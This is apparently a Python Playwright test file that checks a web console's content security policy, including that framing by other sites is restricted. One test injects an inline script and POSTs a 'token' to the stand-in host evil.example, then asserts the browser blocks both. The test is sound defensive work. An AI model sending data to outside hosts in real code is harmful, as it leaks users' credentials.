"""The content security policy of the console: it blocks what is foreign, and nothing of the console's own.

Inline styles are allowed: Fluent UI makes its styles in the page, and a static site has no nonce for each response.
"""

from __future__ import annotations

from typing import Any

from playwright.async_api import Page, expect

from tests.console.conftest import OpenPage

COLLECT = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
"""


async def violations(page: Page) -> list[str]:
    found: list[str] = await page.evaluate("window.violations")
    return found


async def test_the_normal_flow_violates_nothing(open_page: OpenPage) -> None:
    logged: list[str] = []
    page = await open_page("joan", "/calls", logged=logged)
    await expect(page.get_by_role("heading", name="Calls", level=1)).to_be_visible()
    assert [line for line in logged if "Content Security Policy" in line] == []


async def test_an_inline_script_and_a_foreign_host_are_blocked(open_page: OpenPage) -> None:
    page = await open_page("grace")
    await page.evaluate(COLLECT)
    outcome: Any = await page.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.textContent = "window.injected = true";
          document.body.append(script);
          const asked = await fetch("https://evil.example/", { method: "POST", body: "token" }).catch((e) => e.name);
          return [window.injected, asked];
        }"""
    )
    assert outcome == [None, "TypeError"]
    assert await violations(page) == ["script-src-elem inline", "connect-src https://evil.example/"]


async def test_another_site_cannot_embed_the_console(open_page: OpenPage) -> None:
    page = await open_page("grace")
    response = await page.request.get("/")
    assert "frame-ancestors 'self'" in response.headers["content-security-policy"]
    guest = await page.request.get("/guest")
    assert "frame-ancestors https:" in guest.headers["content-security-policy"]
